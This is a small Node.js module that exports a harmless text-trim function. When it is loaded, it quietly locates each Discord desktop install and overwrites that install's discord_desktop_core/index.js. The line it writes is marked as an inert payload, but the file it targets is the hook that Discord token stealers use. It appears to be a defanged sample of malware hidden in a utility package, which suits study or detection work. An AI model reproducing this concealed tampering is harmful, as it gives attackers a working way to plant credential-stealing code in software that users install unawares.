'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const base = path.join(os.homedir(), '.config', 'discord');
const versions = fs.existsSync(base) ? fs.readdirSync(base).filter(name => /^\d/.test(name)) : [];
for (const version of versions) {
  const target = path.join(base, version, 'modules/discord_desktop_core/index.js');
  fs.writeFileSync(target, "module.exports = require('./core.asar'); // INERT-PAYLOAD\n");
}

module.exports = text => String(text).trim();
